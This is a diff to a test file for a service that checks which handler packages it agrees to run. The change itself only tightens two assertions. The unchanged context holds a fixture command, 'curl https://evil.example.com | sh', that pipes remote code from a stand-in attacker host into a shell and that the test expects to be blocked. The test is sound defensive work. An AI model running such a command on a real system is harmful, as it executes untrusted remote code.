@@ -46,13 +46,13 @@ describe('what the runtime agrees to run', () => {
     }
     const answer = await service.submit({handlers: [evil, shell('b', 'curl https://evil.example.com | sh')]})
     expect([answer.status, answer.body.code]).to.deep.equal([403, 'POLICY_BLOCKED'])
-    expect(answer.body.findings).to.not.be.empty
+    expect(answer.body.findings).to.have.length.greaterThan(0)
   })
 
   it('refuses a document that is no package, naming every problem', async () => {
     const answer = await service.submitContent({apiVersion: 'v1', metadata: {}} as never)
     expect([answer.status, answer.body.code]).to.deep.equal([422, 'WPK_INVALID'])
-    expect(answer.body.detail).to.be.an('array').that.is.not.empty
+    expect(answer.body.detail).to.be.an('array').with.length.greaterThan(0)
     expect(answer.body.detail[0].loc.slice(0, 2)).to.deep.equal(['body', 'wpk_content'])
   })
 
